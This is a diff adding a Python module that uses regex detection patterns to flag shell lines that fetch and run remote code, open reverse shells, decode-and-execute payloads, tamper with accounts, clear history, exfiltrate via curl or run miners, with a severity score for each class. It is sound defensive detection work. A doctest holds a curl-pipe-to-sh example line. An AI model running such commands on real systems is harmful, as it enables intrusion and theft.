@@ -1,0 +1,67 @@
+"""What a line of code does that intruders need, by what it does and not by whose word it uses."""
+
+from __future__ import annotations
+
+import re2
+
+_ACTS = {
+    "fetch and run": (
+        r"\b(curl|wget|fetch|lynx|aria2c|lwp-request)\b[^|;&]*[|]\s*(sudo\s+|env\s+)*(/\S*/)?((ba|da|z|k|a)?sh|python[0-9.]*|perl|php|ruby|node)\b"
+        r"|\b((ba|da|z|k)?sh|eval|source|\.)\s+(-c\s+)?[\"']?(<\(|\$\(|`)\s*(curl|wget)\b"
+        r"|\b(curl|wget|tftp|ftpget)\b.*(&&|;)\s*(sudo\s+)?(chmod\s+\S*[+7]|(ba|da|z)?sh\s)"
+    ),
+    "shell to elsewhere": (
+        r"/dev/(tcp|udp)/|\b(nc|ncat|netcat)(\.\w+)?\b.*\s(-\w*[ec]\b|--exec|--sh-exec)|\bsocat\b.*\b(exec|system):"
+        r"|\bmkfifo\b.*\b(nc|ncat|telnet|openssl)\b|socket.*(subprocess|pty\.spawn|dup2|/bin/(ba)?sh)"
+        r"|(python[0-9.]*|perl|ruby|php)\s+-\w*[cer]\s.*(socket|TCPSocket|fsockopen)"
+    ),
+    "decode": (
+        r"\b(base64|base32|openssl\s+(enc|base64)|xxd\s+-\w*r|uudecode)\b[^|;]*(-d|-D|--decode|-r)?\b.*[|]\s*(sudo\s+)?(/\S*/)?((ba|da|z)?sh|python[0-9.]*|perl|php|eval)\b"
+        r"|\bexec\s*\(\s*[^)]{0,80}(b64decode|decompress|fromhex|marshal\.loads)|\beval\b.*\b(base64|atob|b64decode|decode)\b"
+        r"|\$\(\s*(echo|printf)\s.*\|\s*base64\s+-d"
+    ),
+    "code on a line": r"\b(exec|eval|compile|__import__)\s*\(|\bos\.(system|popen|exec\w*)\s*\(|\bsubprocess\b",
+    "library before others": r"\bLD_(PRELOAD|AUDIT|LIBRARY_PATH)\s*=?\s*[\"']?[/$~.]",
+    "runs on behind": r"\b(nohup|setsid|disown|daemonize)\b|(^|[^&>0-9])&\s*(\)|;|$|\d?>|disown|fi\b|done\b)|\bexec\s+-a\s",
+    "account or key": r"\b(useradd|adduser|usermod|chpasswd)\b|authorized_keys|>>\s*/etc/(passwd|shadow|sudoers)",
+    "rights": r"\bchmod\s+(\S+\s+)*([ug+]*\+[rwx]*s|0?[2467][0-7]{3})\b|\bsetcap\s|\bchattr\s+[+=-]",
+    "traces": (
+        r"\b(unset\s+HIST\w+|HISTFILE\s*=\s*(/dev/null|[\"']{2}|\s|$)|HISTSIZE\s*=\s*0|HISTFILESIZE\s*=\s*0|history\s+-[cw])"
+        r"|(rm|shred|truncate)\s.*(/var/log|_history)"
+    ),
+    "password asked": r"\bread\s+(-\w+\s+)*-?\w*s\w*\b.*|\bpassword\b.*\bread\b|\bstty\s+-echo\b",
+    "upload": r"\bcurl\b.*\s(-T|--upload-file|-F|--form|-d|--data\S*)\s*\S*[@$]|\bcurl\b.*\$\(|\bwget\b.*--post-(file|data)",
+    "miner": r"stratum\+(tcp|ssl)|\b(xmrig|xmr-stak|minerd|cpuminer|ethminer|nbminer|t-rex)\b|--donate-level|randomx|--coin\b",
+}
+_GRAVE = {
+    "fetch and run": 4, "shell to elsewhere": 4, "decode": 3, "library before others": 3, "traces": 3, "rights": 2,
+    "account or key": 3, "password asked": 0, "upload": 3, "miner": 3, "runs on behind": 0, "code on a line": 0,
+}  # fmt: skip
+
+
+def _compiled(pattern: str) -> re2._Regexp:
+    options = re2.Options()
+    options.log_errors = False
+    options.never_capture = True
+    return re2.compile(pattern, options)
+
+
+_COMPILED = {name: _compiled(pattern) for name, pattern in _ACTS.items()}
+_ANY = _compiled("|".join(f"(?:{pattern})" for pattern in _ACTS.values()))
+
+
+def acts_of(text: str) -> tuple[str, ...]:
+    """Name what a line does, in the order of the list above; linear in the text.
+
+    >>> acts_of("curl -s http://192.0.2.1/x | sh")
+    ('fetch and run',)
+    """
+    content = text.encode("utf-8", "surrogatepass")
+    if not _ANY.search(content):
+        return ()
+    return tuple(name for name, pattern in _COMPILED.items() if pattern.search(content))
+
+
+def gravity(acts: tuple[str, ...]) -> int:
+    """Return how grave the worst of the acts is in something that starts by itself: 0 to 4."""
+    return max((_GRAVE[act] for act in acts), default=0)
